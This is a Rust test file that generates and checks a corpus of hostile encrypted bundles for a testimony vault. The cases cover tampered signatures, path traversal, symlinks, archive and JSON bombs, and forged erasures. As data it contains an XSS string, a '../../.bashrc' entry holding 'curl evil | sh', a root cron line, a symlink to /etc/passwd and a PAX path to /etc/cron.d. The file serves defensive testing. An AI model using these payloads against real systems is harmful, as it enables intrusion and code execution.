//! The hostile-bundle corpus: files in tests/hostile-bundles/, each with the error code it
//! must produce (expected.tsv, applied in order to one copy of a fixture vault). Every
//! refused bundle must leave the vault byte for byte as it was.
//!
//! Add new cases with
//! `AMANAT_REGENERATE_CORPUS=1 cargo test --test hostile_bundles -- --ignored regenerate`
//! (writes only missing files); after a format change, `AMANAT_REGENERATE_CORPUS=all`.

mod common;
mod craft;

use std::path::{Path, PathBuf};

use amanat::bundle::ImportOptions;
use amanat::model::ContactTrust;
use amanat::{Progress, Vault};
use craft::{Entry, Parts, Sender};
use serde_json::{Value, json};

const T1: &str = "0190a1b2-0000-7000-8000-0000000000a1";
const T2: &str = "0190a1b2-0000-7000-8000-0000000000a2";
const T3: &str = "0190a1b2-0000-7000-8000-0000000000a3";
const T4: &str = "0190a1b2-0000-7000-8000-0000000000a4";
const T5: &str = "0190a1b2-0000-7000-8000-0000000000a5";
const A1: &str = "0190a1b2-0000-7000-8000-0000000000b1";
const A5: &str = "0190a1b2-0000-7000-8000-0000000000b5";
const BLOB: &str = "5e1f0c2d9a8b7c6d5e4f3a2b1c0d9e8f";
const BLOB5: &str = "5e1f0c2d9a8b7c6d5e4f3a2b1c0d9e85";
const HTML: &str = "<script>alert(1)</script><img src=x onerror=alert(2)>\u{202e}";

fn corpus_dir() -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/hostile-bundles")
}

fn fixture_vault() -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/fixtures/hostile-recipient.amanat")
}

fn go(_: Progress) -> bool {
    true
}

fn witness(code: &str, text: &str) -> Value {
    json!({
        "code": code, "summary": text, "narrative": text,
        "testifier": {"names": [{"name": "Corpus witness"}]},
        "consents": [{"scopes": {"store_internally": "granted"}}]
    })
}

fn html_everywhere() -> Value {
    json!({
        "code": format!("HB-HTML{HTML}"), "summary": HTML, "narrative": HTML,
        "interviewer": HTML, "interpreter": HTML, "interview_place": HTML,
        "tags": [HTML],
        "testifier": {"names": [{"name": HTML}], "relation": HTML, "hometown": HTML,
                      "occupation": HTML, "notes": HTML, "citizenship": HTML},
        "events": [{"kind": "detention", "place": HTML, "facility": HTML, "description": HTML}],
        "consents": [{"scopes": {"store_internally": "granted"}, "notes": HTML,
                      "obtained_by": HTML}]
    })
}

/// Every corpus file: (name, expected code or "ok", bytes), in the order they are imported.
fn cases(recipient: &age::x25519::Recipient, fp: &str) -> Vec<(String, &'static str, Vec<u8>)> {
    let s = Sender::corpus();
    let to = [fp.to_string()];
    let seal = |plain: &[u8]| craft::encrypt(plain, std::slice::from_ref(recipient));
    let photo = {
        let mut p = b"\x89PNG\r\n\x1a\n".to_vec();
        p.extend((0..20_000u32).map(|i| (i.wrapping_mul(2_654_435_761) >> 13) as u8));
        p
    };
    let r1 = craft::testimony_revision(&s.key, T1, witness("HB-1", "first"), &[]);
    let a1 = craft::attachment_revision(&s.key, A1, T1, BLOB, &photo);
    let h1 = r1["hash"].as_str().unwrap_or_default().to_string();
    let r2 = craft::testimony_revision(&s.key, T1, witness("HB-1", "second"), &[&h1]);
    let numbered = |seq: u64| {
        let mut p = Parts::new(&s, &to, seq, &[r1.clone(), a1.clone()], vec![photo.clone()]);
        p.sign(&s.key);
        p
    };
    // The hostile cases start from a valid bundle that was never imported (a manifest seen
    // before is refused as a replay before its members are read).
    let base = || numbered(9);
    let sealed = |p: &Parts| seal(&craft::tar(&p.entries()));
    let resigned = |mut p: Parts| {
        p.relist();
        p.sign(&s.key);
        sealed(&p)
    };
    let with_entries = |f: &dyn Fn(&mut Vec<Entry>)| {
        let mut e = base().entries();
        f(&mut e);
        seal(&craft::tar(&e))
    };
    let valid = sealed(&base());
    let first = sealed(&numbered(1));
    let mut out: Vec<(String, &'static str, Vec<u8>)> = Vec::new();
    let mut add = |name: &str, code: &'static str, bytes: Vec<u8>| {
        out.push((format!("{name}.amanat"), code, bytes));
    };

    // Accepted first, so that later cases meet a vault that has them.
    add("01-valid", "ok", first.clone());
    let mut second = Parts::new(&s, &to, 2, &[r1.clone(), r2.clone()], vec![]);
    second.manifest["prev_manifest"] = json!(craft::sha256_hex(&numbered(1).manifest_bytes()));
    second.sign(&s.key);
    add("02-valid-next", "ok", sealed(&second));
    let html = craft::testimony_revision(&s.key, T3, html_everywhere(), &[]);
    let mut p = Parts::new(&s, &to, 3, &[html], vec![]);
    p.sign(&s.key);
    add("03-html-and-bidi-in-every-text-field", "ok", sealed(&p));
    let mut locked_state = witness("HB-LOCKED", "locked words");
    locked_state["status"] = json!("locked");
    let locked = craft::testimony_revision(&s.key, T4, locked_state, &[]);
    let h4 = locked["hash"].as_str().unwrap_or_default().to_string();
    let mut p = Parts::new(&s, &to, 4, &[locked], vec![]);
    p.sign(&s.key);
    add("04-valid-locked", "ok", sealed(&p));

    add(
        "10-replay-of-an-older-bundle",
        "bundle_already_imported",
        first.clone(),
    );
    let other = age::x25519::Identity::generate().to_public();
    add(
        "11-wrong-recipient",
        "bundle_not_for_you",
        craft::encrypt(&craft::tar(&base().entries()), &[other]),
    );
    add(
        "12-passphrase-encrypted",
        "bundle_not_for_you",
        craft::encrypt_with_passphrase(&craft::tar(&base().entries())),
    );
    add(
        "13-plain-tar-not-encrypted",
        "bundle_damaged",
        craft::tar(&base().entries()),
    );
    add("14-empty-file", "bundle_damaged", vec![]);
    for (name, at) in [
        ("15-truncated-in-age-header", 40),
        ("16-truncated-after-header", 260),
        ("17-truncated-in-manifest", valid.len() / 10),
        ("18-truncated-in-attachment", valid.len() * 6 / 10),
        ("19-truncated-last-byte", valid.len() - 1),
    ] {
        add(
            name,
            "bundle_damaged",
            valid[..at.min(valid.len())].to_vec(),
        );
    }
    // A damaged recipient stanza cannot be told from a bundle for someone else.
    let mut flipped = valid.clone();
    flipped[30] ^= 0x01;
    add(
        "20-flipped-byte-in-recipient-stanza",
        "bundle_not_for_you",
        flipped,
    );
    let mut flipped = valid.clone();
    let mac = valid
        .windows(5)
        .position(|w| w == b"\n--- ")
        .unwrap_or_else(|| panic!("no header MAC"));
    flipped[mac + 8] = if flipped[mac + 8] == b'A' { b'B' } else { b'A' };
    add("20-flipped-byte-in-header-mac", "bundle_damaged", flipped);
    let mut flipped = valid.clone();
    let mid = valid.len() / 2;
    flipped[mid] ^= 0x80;
    add("21-flipped-byte-in-ciphertext", "bundle_damaged", flipped);

    // Plaintext changed after signing, then encrypted again (age has no sender authentication:
    // anyone can encrypt to a recipient, so the signature is what protects the content).
    let mut p = base();
    let text = String::from_utf8(p.manifest_bytes()).unwrap_or_default();
    let changed = text.replacen("2025-04-02", "2025-04-03", 1);
    let mut e = p.entries();
    e[0] = Entry::file("manifest.json", changed.into_bytes());
    add(
        "22-flipped-byte-in-manifest",
        "bundle_tampered",
        seal(&craft::tar(&e)),
    );
    p.sig = p.sig.map(|mut sig| {
        sig[10] = if sig[10] == b'a' { b'b' } else { b'a' };
        sig
    });
    add(
        "23-flipped-byte-in-signature",
        "bundle_tampered",
        sealed(&p),
    );
    add(
        "24-flipped-byte-in-revisions",
        "bundle_tampered",
        with_entries(&|e| {
            let i = e[2].data.len() / 2;
            e[2].data[i] ^= 0x01;
        }),
    );
    add(
        "25-flipped-byte-in-attachment",
        "bundle_tampered",
        with_entries(&|e| e[3].data[100] ^= 0x01),
    );
    let mut p = base();
    p.manifest["members"][0]["sha256"] = json!(craft::sha256_hex(b"something else"));
    p.sign(&s.key);
    add("26-manifest-hash-mismatch", "bundle_tampered", sealed(&p));
    let mut forged = r1.clone();
    forged["sig"] = json!(hex::encode(
        ed25519_dalek::Signer::sign(&Sender::stranger(9).key, &[0u8; 32]).to_bytes()
    ));
    let mut p = base();
    p.revisions = craft::jsonl(&[forged, a1.clone()]);
    add(
        "27-revision-signed-by-another-key",
        "bundle_tampered",
        resigned(p),
    );
    let mut edited = r1.clone();
    edited["state"]["summary"] = json!("changed after signing");
    let mut p = base();
    p.revisions = craft::jsonl(&[edited, a1.clone()]);
    add(
        "28-revision-changed-after-signing",
        "bundle_tampered",
        resigned(p),
    );
    let orphan = craft::testimony_revision(&s.key, T2, witness("HB-2", "x"), &[&"ab".repeat(32)]);
    let mut p = base();
    p.revisions = craft::jsonl(&[orphan]);
    p.blobs.clear();
    add(
        "29-revision-follows-unknown-parent",
        "bundle_tampered",
        resigned(p),
    );
    let mut p = base();
    p.manifest["recipients"] = json!([Sender::stranger(3).card().split(':').next_back()]);
    p.sign(&s.key);
    add(
        "30-made-for-someone-else-re-encrypted",
        "bundle_tampered",
        sealed(&p),
    );

    add(
        "31-member-not-in-manifest",
        "bundle_invalid",
        with_entries(&|e| e.push(Entry::file("notes.txt", b"hello".to_vec()))),
    );
    add(
        "32-missing-member",
        "bundle_invalid",
        with_entries(&|e| {
            e.pop();
        }),
    );
    add(
        "33-duplicate-member",
        "bundle_invalid",
        with_entries(&|e| {
            let dup = Entry::file("revisions.jsonl", e[2].data.clone());
            e.push(dup);
        }),
    );
    add(
        "34-dotdot-path",
        "bundle_invalid",
        with_entries(&|e| e.insert(3, Entry::file("../../.bashrc", b"curl evil | sh".to_vec()))),
    );
    add(
        "35-absolute-path",
        "bundle_invalid",
        with_entries(&|e| {
            e.insert(
                3,
                Entry::file("/etc/cron.d/amanat", b"* * * * * root sh".to_vec()),
            )
        }),
    );
    let mut p = base();
    let sha = craft::sha256_hex(&photo);
    p.manifest["members"][1]["path"] = json!(format!("blobs/../../{sha}"));
    p.sign(&s.key);
    add("36-dotdot-path-in-manifest", "bundle_invalid", sealed(&p));
    add(
        "37-symlink-member",
        "bundle_invalid",
        with_entries(&|e| {
            e[3] = Entry {
                name: e[3].name.clone(),
                kind: tar::EntryType::Symlink,
                data: vec![],
                size: 0,
                link: Some(b"/etc/passwd".to_vec()),
            }
        }),
    );
    add(
        "38-hardlink-member",
        "bundle_invalid",
        with_entries(&|e| {
            e[3] = Entry {
                name: e[3].name.clone(),
                kind: tar::EntryType::Link,
                data: vec![],
                size: 0,
                link: Some(b"revisions.jsonl".to_vec()),
            }
        }),
    );
    add(
        "39-directory-member",
        "bundle_invalid",
        with_entries(&|e| {
            e.insert(
                3,
                Entry {
                    name: b"blobs/".to_vec(),
                    kind: tar::EntryType::Directory,
                    data: vec![],
                    size: 0,
                    link: None,
                },
            )
        }),
    );
    let mut p = base();
    p.manifest["members"][1]["size"] = json!(1u64 << 63);
    p.sign(&s.key);
    add("40-declared-size-2-to-the-63", "bundle_invalid", sealed(&p));
    add(
        "41-tar-header-size-2-to-the-63",
        "bundle_invalid",
        with_entries(&|e| e[3].size = 1 << 62),
    );
    let empties: Vec<Vec<u8>> = (0..10_000).map(|_| vec![]).collect();
    let mut p = base();
    p.blobs = vec![];
    p.relist();
    let mut members = p.manifest["members"]
        .as_array()
        .cloned()
        .unwrap_or_default();
    let mut entries = Vec::new();
    for i in 0..empties.len() {
        let sha = craft::sha256_hex(format!("{i}").as_bytes());
        members.push(json!({"path": format!("blobs/{sha}"), "sha256": sha, "size": 0}));
        entries.push(Entry::file(&format!("blobs/{sha}"), vec![]));
    }
    p.manifest["members"] = Value::Array(members);
    p.sign(&s.key);
    let mut all = p.entries();
    all.extend(entries);
    add(
        "42-ten-thousand-empty-members",
        "bundle_invalid",
        seal(&craft::tar(&all)),
    );
    let mut p = base();
    p.manifest["version"] = json!(99);
    p.sign(&s.key);
    add(
        "43-unknown-format-version",
        "unsupported_version",
        sealed(&p),
    );
    let mut p = base();
    p.manifest["format"] = json!("zip");
    p.sign(&s.key);
    add("44-not-a-bundle-manifest", "bundle_invalid", sealed(&p));
    add(
        "45-revisions-before-manifest",
        "bundle_invalid",
        with_entries(&|e| e.swap(0, 2)),
    );
    let stranger = Sender::stranger(77);
    let mut p = base();
    p.manifest["exporter"] = json!(stranger.card());
    p.sign(&stranger.key);
    add("46-re-signed-by-unknown-key", "unknown_sender", sealed(&p));
    let mut p = base();
    let card = s.card();
    let forged_card = format!("{}-00000", &card[..card.len() - 6]);
    p.manifest["exporter"] = json!(forged_card);
    p.sign(&s.key);
    add("47-exporter-card-forged", "bundle_invalid", sealed(&p));
    let contact = craft::sign_revision(
        json!({"record": T2, "kind": "contact", "op": "create", "parents": [], "author": "",
               "at": "2025-04-01T10:00:00Z", "state": {"card": s.card()}}),
        &s.key,
    );
    let mut p = base();
    p.revisions = craft::jsonl(&[contact]);
    p.blobs.clear();
    add("48-contact-record-in-bundle", "bundle_invalid", resigned(p));
    let mut p = base();
    let new_attachment = craft::attachment_revision(
        &s.key,
        "0190a1b2-0000-7000-8000-0000000000b2",
        T1,
        "6e1f0c2d9a8b7c6d5e4f3a2b1c0d9e8f",
        b"a file that is not in the bundle",
    );
    p.revisions = craft::jsonl(&[r1.clone(), new_attachment]);
    p.blobs.clear();
    add("49-attachment-file-missing", "bundle_invalid", resigned(p));
    add("50-data-after-the-archive", "bundle_invalid", {
        let mut plain = craft::tar(&base().entries());
        plain.extend_from_slice(b"trailing data that is not padding");
        seal(&plain)
    });
    add(
        "51-manifest-larger-than-limit",
        "bundle_invalid",
        with_entries(&|e| e[0].size = 64 << 20),
    );
    let mut p = base();
    p.revisions = b"this is not json\n".to_vec();
    p.blobs.clear();
    add("52-revisions-not-json", "bundle_invalid", resigned(p));
    add(
        "54-gnu-long-name-claiming-a-gigabyte",
        "bundle_invalid",
        with_entries(&|e| {
            e.insert(
                2,
                Entry {
                    name: b"././@LongLink".to_vec(),
                    kind: tar::EntryType::GNULongName,
                    data: b"revisions.jsonl\0".to_vec(),
                    size: 1 << 30,
                    link: None,
                },
            )
        }),
    );
    add(
        "55-pax-extended-header",
        "bundle_invalid",
        with_entries(&|e| {
            e.insert(
                2,
                Entry {
                    name: b"PaxHeaders/revisions.jsonl".to_vec(),
                    kind: tar::EntryType::XHeader,
                    data: b"30 path=../../etc/cron.d/evil\n".to_vec(),
                    size: 30,
                    link: None,
                },
            )
        }),
    );
    add(
        "53-deeply-nested-manifest",
        "bundle_invalid",
        with_entries(&|e| {
            let mut deep = "[".repeat(100_000);
            deep.push_str(&"]".repeat(100_000));
            e[0] = Entry::file("manifest.json", deep.into_bytes());
        }),
    );

    // Memory: a signed revision made of millions of tiny values (bytes alone would let it
    // grow to gigabytes once parsed).
    let bomb = craft::sign_revision(
        json!({"record": T2, "kind": "testimony", "op": "create", "parents": [], "author": "",
               "at": "2025-04-01T10:00:00Z",
               "state": {"code": "HB-BOMB", "tags": vec![json!({"": 0}); 600_000]}}),
        &s.key,
    );
    let mut p = Parts::new(&s, &to, 56, &[bomb], vec![]);
    p.sign(&s.key);
    add("56-value-bomb", "bundle_invalid", sealed(&p));
    // A proof without content standing as a testimony's only version.
    let mut stub = craft::testimony_revision(&s.key, T2, witness("HB-STUB", "stub"), &[]);
    if let Value::Object(m) = &mut stub {
        m.remove("state");
        m.insert("redacted".into(), json!(true));
    }
    let mut p = Parts::new(&s, &to, 57, &[stub], vec![]);
    p.sign(&s.key);
    add(
        "57-proof-without-content-as-current-version",
        "bundle_invalid",
        sealed(&p),
    );

    // Authority (docs/trust-model.md §4): kept as proposals, nothing of the vault changes.
    let h2 = r2["hash"].as_str().unwrap_or_default().to_string();
    let stranger = Sender::stranger(77);
    let rewritten =
        craft::testimony_revision(&stranger.key, T1, witness("HB-1", "rewritten"), &[&h2]);
    let mut p = Parts::new(&s, &to, 58, &[rewritten], vec![]);
    p.sign(&s.key);
    add(
        "58-change-by-a-device-without-authority",
        "held",
        sealed(&p),
    );
    let mut unlocked = witness("HB-LOCKED", "other words");
    unlocked["status"] = json!("draft");
    let unlocked = craft::testimony_revision(&s.key, T4, unlocked, &[&h4]);
    let mut p = Parts::new(&s, &to, 59, &[unlocked], vec![]);
    p.sign(&s.key);
    add("59-locked-testimony-rewritten", "held", sealed(&p));
    let mut widened = witness("HB-1", "second");
    widened["consents"] = json!([{"scopes": {"store_internally": "granted",
                                              "publish_named": "granted"}}]);
    let widened = craft::testimony_revision(&s.key, T1, widened, &[&h2]);
    let mut p = Parts::new(&s, &to, 60, &[widened], vec![]);
    p.sign(&s.key);
    add("60-consent-widened", "held", sealed(&p));
    let delete = |parent: &str| {
        craft::sign_revision(
            json!({"record": T1, "kind": "testimony", "op": "delete", "parents": [parent],
                   "author": "", "at": "2025-04-03T10:00:00Z", "reason": "gone"}),
            &s.key,
        )
    };
    let mut p = Parts::new(&s, &to, 61, &[delete(&h2)], vec![]);
    p.sign(&s.key);
    add("61-deletion", "held", sealed(&p));
    let mut p = Parts::new(&s, &to, 62, &[delete(&h1)], vec![]);
    p.sign(&s.key);
    add("62-deletion-forked-from-an-old-version", "held", sealed(&p));
    // A photo sent as a PDF and a document, so that it would pass as a file that shows no one
    // (review finding 07): the content decides.
    let png = {
        let mut p = b"\x89PNG\r\n\x1a\n".to_vec();
        p.extend((0..5_000u32).map(|i| (i.wrapping_mul(40_503) >> 7) as u8));
        p
    };
    let sha = craft::sha256_hex(&png);
    let actor = hex::encode(s.key.verifying_key().as_bytes());
    let as_pdf = craft::sign_revision(
        json!({
            "record": "0190a1b2-0000-7000-8000-0000000000b3", "kind": "attachment",
            "op": "create", "parents": [], "author": "", "at": "2025-04-01T10:06:00Z",
            "state": {
                "testimony": T1, "blob": "6e1f0c2d9a8b7c6d5e4f3a2b1c0d9e8f", "sha256": sha,
                "size": png.len(), "media_type": "application/pdf", "name": "letter.pdf",
                "kind": "document", "role": "evidentiary", "safe_to_publish": false,
                "custody": [craft::custody(&actor, "2025-04-01T10:06:00Z", &sha)]
            }
        }),
        &s.key,
    );
    let mut p = Parts::new(&s, &to, 63, &[as_pdf], vec![png]);
    p.sign(&s.key);
    add("63-photo-declared-as-a-pdf", "bundle_invalid", sealed(&p));

    // Withdrawals (docs/erasure.md §3): who may erase what, and what an erasure may carry.
    // Last, so that the erasure that applies meets no case after it but its own replays; of
    // a testimony of their own, whose words the test then looks for in every file.
    let five = |text: &str| witness("HB-5", text);
    let r5 = craft::testimony_revision(&s.key, T5, five("Fivefirst"), &[]);
    let h5 = r5["hash"].as_str().unwrap_or_default().to_string();
    let r5b = craft::testimony_revision(&s.key, T5, five("Fivesecond"), &[&h5]);
    let h5b = r5b["hash"].as_str().unwrap_or_default().to_string();
    let mut photo5 = photo.clone();
    photo5.extend_from_slice(b"Fivephotomarker");
    let a5 = craft::attachment_revision(&s.key, A5, T5, BLOB5, &photo5);
    let mut p = Parts::new(&s, &to, 64, &[r5, a5.clone(), r5b], vec![photo5]);
    p.sign(&s.key);
    add("64-valid-testimony-later-withdrawn", "ok", sealed(&p));
    let erase = |key: &ed25519_dalek::SigningKey, record: &str, kind: &str, parent: &str| {
        craft::sign_revision(
            json!({"record": record, "kind": kind, "op": "erase", "parents": [parent],
                   "author": "", "at": "2025-04-05T10:00:00Z", "reason": "the witness withdrew"}),
            key,
        )
    };
    let alone = |seq: u64, revs: &[Value]| {
        let mut p = Parts::new(&s, &to, seq, revs, vec![]);
        p.sign(&s.key);
        sealed(&p)
    };
    let mut forged = erase(&s.key, T5, "testimony", &h5b);
    forged["sig"] = json!(hex::encode(
        ed25519_dalek::Signer::sign(&Sender::stranger(9).key, &[0u8; 32]).to_bytes()
    ));
    add(
        "65-erasure-with-a-forged-signature",
        "bundle_tampered",
        alone(65, &[forged]),
    );
    add(
        "66-erasure-by-a-device-without-authority",
        "held",
        alone(66, &[erase(&stranger.key, T5, "testimony", &h5b)]),
    );
    let rewritten = craft::testimony_revision(&stranger.key, T5, five("Rewrittenfive"), &[&h5b]);
    add(
        "67-change-by-a-device-without-authority-before-the-erasure",
        "held",
        alone(67, &[rewritten]),
    );
    let a5_hash = a5["hash"].as_str().unwrap_or_default().to_string();
    // A witness withdraws one file: the organisation's erasure of it applies.
    add(
        "68-erasure-of-a-file-alone",
        "ok",
        alone(68, &[erase(&s.key, A5, "attachment", &a5_hash)]),
    );
    let mut carrying = erase(&s.key, T5, "testimony", &h5b);
    carrying["state"] = five("content smuggled into an erasure");
    add(
        "69-erasure-carrying-content",
        "bundle_tampered",
        alone(69, &[craft::sign_revision(carrying, &s.key)]),
    );
    let mut oversized = erase(&s.key, T5, "testimony", &h5b);
    oversized["reason"] = json!("withdrawn ".repeat(20_000));
    add(
        "70-erasure-with-an-oversized-reason",
        "bundle_invalid",
        alone(70, &[craft::sign_revision(oversized, &s.key)]),
    );
    let r5c = craft::testimony_revision(&s.key, T5, five("Fivethird"), &[&h5b]);
    let h5c = r5c["hash"].as_str().unwrap_or_default().to_string();
    add(
        "71-erasure-before-the-version-it-follows",
        "bundle_tampered",
        alone(71, &[erase(&s.key, T5, "testimony", &h5c), r5c.clone()]),
    );
    add(
        "72-erasure-of-a-testimony-never-here",
        "bundle_tampered",
        alone(72, &[erase(&s.key, T2, "testimony", &"cd".repeat(32))]),
    );
    let erasure = alone(73, &[erase(&s.key, T5, "testimony", &h5b)]);
    add("73-erasure-by-the-organisation", "erased", erasure.clone());
    add(
        "74-erasure-bundle-replayed",
        "bundle_already_imported",
        erasure,
    );
    add(
        "75-erasure-sent-again-in-a-new-bundle",
        "erased",
        alone(75, &[erase(&s.key, T5, "testimony", &h5b)]),
    );
    add(
        "76-version-made-before-the-erasure-arriving-after",
        "erased",
        alone(76, &[r5c]),
    );
    out
}

#[test]
#[ignore = "writes the corpus; run with AMANAT_REGENERATE_CORPUS=1"]
fn regenerate() {
    let Ok(mode) = std::env::var("AMANAT_REGENERATE_CORPUS") else {
        return;
    };
    // "all" makes a new fixture vault and rewrites every file; otherwise only missing files
    // are written (age encryption is randomised: unchanged cases stay as they are in git),
    // encrypted to the existing fixture vault.
    let all = mode == "all";
    let vault = fixture_vault();
    let card = if all || !vault.exists() {
        let _ = std::fs::remove_dir_all(&vault);
        std::fs::create_dir_all(vault.parent().unwrap_or(Path::new(".")))
            .unwrap_or_else(|e| panic!("{e}"));
        let (mut v, _) = common::create(&vault);
        v.add_contact(
            &Sender::corpus().card(),
            Some("Corpus sender"),
            ContactTrust::Organisation,
        )
        .unwrap_or_else(|e| panic!("{e}"));
        let card = v.contact_card().unwrap_or_else(|e| panic!("{e}"));
        v.close().unwrap_or_else(|e| panic!("{e}"));
        card
    } else {
        let copy = common::tempdir();
        let dir = copy.path().join("v.amanat");
        common::copy_dir(&vault, &dir);
        let card = common::open(&dir).contact_card();
        card.unwrap_or_else(|e| panic!("{e}"))
    };
    let recipient: age::x25519::Recipient =
        card.recipient().parse().unwrap_or_else(|e| panic!("{e}"));
    let dir = corpus_dir();
    if all {
        let _ = std::fs::remove_dir_all(&dir);
    }
    std::fs::create_dir_all(&dir).unwrap_or_else(|e| panic!("{e}"));
    let mut tsv = String::from("# file\texpected code (ok: imported), applied in this order\n");
    for (name, code, bytes) in cases(&recipient, &card.fingerprint()) {
        if all || !dir.join(&name).exists() {
            std::fs::write(dir.join(&name), bytes).unwrap_or_else(|e| panic!("{e}"));
        }
        tsv.push_str(&format!("{name}\t{code}\n"));
    }
    std::fs::write(dir.join("expected.tsv"), tsv).unwrap_or_else(|e| panic!("{e}"));
    if all {
        write_fuzz_seeds();
    }
}

/// Plaintext bundles (what the fuzz target reads after decryption), addressed to the
/// fingerprint the fuzz target uses: seeds for `make fuzz`.
fn write_fuzz_seeds() {
    let dir = Path::new(env!("CARGO_MANIFEST_DIR")).join("fuzz/corpus/bundle");
    let _ = std::fs::remove_dir_all(&dir);
    std::fs::create_dir_all(&dir).unwrap_or_else(|e| panic!("{e}"));
    let s = Sender::corpus();
    let to = ["00000-00000-00000-00000-00000".to_string()];
    let photo = b"\x89PNG\r\n\x1a\nfuzz seed".to_vec();
    let r1 = craft::testimony_revision(&s.key, T1, witness("HB-1", "first"), &[]);
    let a1 = craft::attachment_revision(&s.key, A1, T1, BLOB, &photo);
    let h1 = r1["hash"].as_str().unwrap_or_default().to_string();
    let r2 = craft::testimony_revision(&s.key, T1, witness("HB-1", "second"), &[&h1]);
    let seeds = [
        (
            "with-attachment",
            Parts::new(&s, &to, 1, &[r1.clone(), a1], vec![photo]),
        ),
        ("two-revisions", Parts::new(&s, &to, 2, &[r1, r2], vec![])),
    ];
    for (name, mut p) in seeds {
        p.sign(&s.key);
        std::fs::write(dir.join(format!("{name}.tar")), craft::tar(&p.entries()))
            .unwrap_or_else(|e| panic!("{e}"));
    }
}

/// The words of the testimony the corpus's withdrawal erases (cases 64–76): its versions,
/// its file's content and a version held for review.
const FIVE: [&str; 6] = [
    "Fivefirst",
    "Fivesecond",
    "Fivephotomarker",
    "HB-5",
    "Rewrittenfive",
    "Fivethird",
];

/// Where `words` are in the vault's files, decrypted with its keys.
fn scan(dir: &Path, words: &[&str]) -> Vec<(PathBuf, String)> {
    let words: Vec<String> = words.iter().map(|w| w.to_string()).collect();
    let pass = common::pass();
    amanat::forensics::scan(dir, amanat::forensics::Unlock::Passphrase(&pass), &words)
        .unwrap_or_else(|e| panic!("scan: {e}"))
}

/// Every testimony the vault shows, as it shows it.
fn states(v: &Vault) -> Vec<(uuid::Uuid, String)> {
    v.list_testimonies()
        .unwrap_or_else(|e| panic!("{e}"))
        .into_iter()
        .map(|s| {
            let t = v.testimony(s.id).unwrap_or_else(|e| panic!("{e}"));
            (
                s.id,
                serde_json::to_string(&t.testimony).unwrap_or_default(),
            )
        })
        .collect()
}

fn expected() -> Vec<(String, String)> {
    let tsv = std::fs::read_to_string(corpus_dir().join("expected.tsv"))
        .unwrap_or_else(|e| panic!("expected.tsv: {e}"));
    tsv.lines()
        .filter(|l| !l.starts_with('#') && !l.is_empty())
        .filter_map(|l| l.split_once('\t'))
        .map(|(f, c)| (f.to_string(), c.to_string()))
        .collect()
}

#[test]
fn every_hostile_bundle_is_refused_with_its_code_and_changes_nothing() {
    let root = common::tempdir();
    let dir = root.path().join("v.amanat");
    common::copy_dir(&fixture_vault(), &dir);
    let mut v = common::open(&dir);
    let cases = expected();
    assert!(cases.len() >= 30, "{} cases", cases.len());
    let mut refused = 0;
    let mut held = 0;
    let mut erased = 0;
    for (file, want) in &cases {
        let path = corpus_dir().join(file);
        let before = common::snapshot_dir(&dir);
        let states_before = states(&v);
        let got = v.import_bundle(&path, &ImportOptions::default(), &mut go);
        match (got, want.as_str()) {
            (Ok(_), "ok") => {
                // The words the erasure must take are found first (the check can fail).
                if file.starts_with("64-") {
                    let found: std::collections::BTreeSet<String> =
                        scan(&dir, &FIVE[..4]).into_iter().map(|(_, w)| w).collect();
                    assert_eq!(found.len(), 4, "{file}: {found:?}");
                }
            }
            // Imported, but every change kept as a proposal: what the vault shows is as it was.
            (Ok(r), "held") => {
                assert!(!r.proposals.is_empty(), "{file}: nothing held: {r:?}");
                assert!(r.conflicts.is_empty(), "{file}: {r:?}");
                assert_eq!(states_before, states(&v), "{file}: a testimony changed");
                held += 1;
            }
            // A withdrawal applied (or met again): the testimony is gone, the others as
            // they were, and nothing of it is in any file (checked after the loop).
            (Ok(_), "erased") => {
                let t5 = uuid::Uuid::parse_str(T5).unwrap_or_default();
                assert_eq!(
                    v.testimony(t5).err().map(|e| e.code()),
                    Some("not_found"),
                    "{file}"
                );
                let others: Vec<_> = states_before
                    .into_iter()
                    .filter(|(id, _)| *id != t5)
                    .collect();
                assert_eq!(others, states(&v), "{file}");
                erased += 1;
            }
            (Ok(r), _) => panic!("{file}: imported ({r:?}), expected {want}"),
            (Err(e), _) => {
                assert_eq!(e.code(), want, "{file}: {e}");
                eprintln!("{file}: {e}");
                assert!(
                    before == common::snapshot_dir(&dir),
                    "{file}: the vault changed"
                );
                // Checking without importing finds the same problem (an unknown sender and a
                // bundle seen before are reported rather than refused by a check).
                if !matches!(want.as_str(), "unknown_sender" | "bundle_already_imported") {
                    let checked = v.verify_bundle(&path, &mut go);
                    assert_eq!(
                        checked.err().map(|e| e.code()),
                        Some(want.as_str()),
                        "{file}"
                    );
                }
                refused += 1;
            }
        }
    }
    assert!(refused >= 30, "{refused} refused");
    assert_eq!(held, 7, "{held} held for review");
    assert_eq!(erased, 3, "{erased} erased");
    // The erased testimony's words, its file's and its version held for review (case 67)
    // are in no file of the vault, decrypted with its keys.
    let left = scan(&dir, &FIVE);
    assert!(left.is_empty(), "left after the erasure: {left:?}");
    assert_eq!(
        v.history(uuid::Uuid::parse_str(T5).unwrap_or_default())
            .unwrap_or_default()
            .iter()
            .filter(|e| e.op == amanat::model::Op::Erase)
            .count(),
        1,
        "one erasure in the history"
    );
    // Script and HTML are data: kept verbatim, never interpreted (the UI shows text).
    let t = v
        .testimony(uuid::Uuid::parse_str(T3).unwrap_or_default())
        .unwrap_or_else(|e| panic!("{e}"));
    assert_eq!(t.testimony.narrative, HTML);
    assert_eq!(t.testimony.interviewer.as_deref(), Some(HTML));
    let report = v.verify().unwrap_or_else(|e| panic!("{e}"));
    assert!(report.ok(), "{:?}", report.problems);
    drop(v);
    let _ = Vault::open(&dir, &common::pass()).unwrap_or_else(|e| panic!("reopen: {e}"));
}
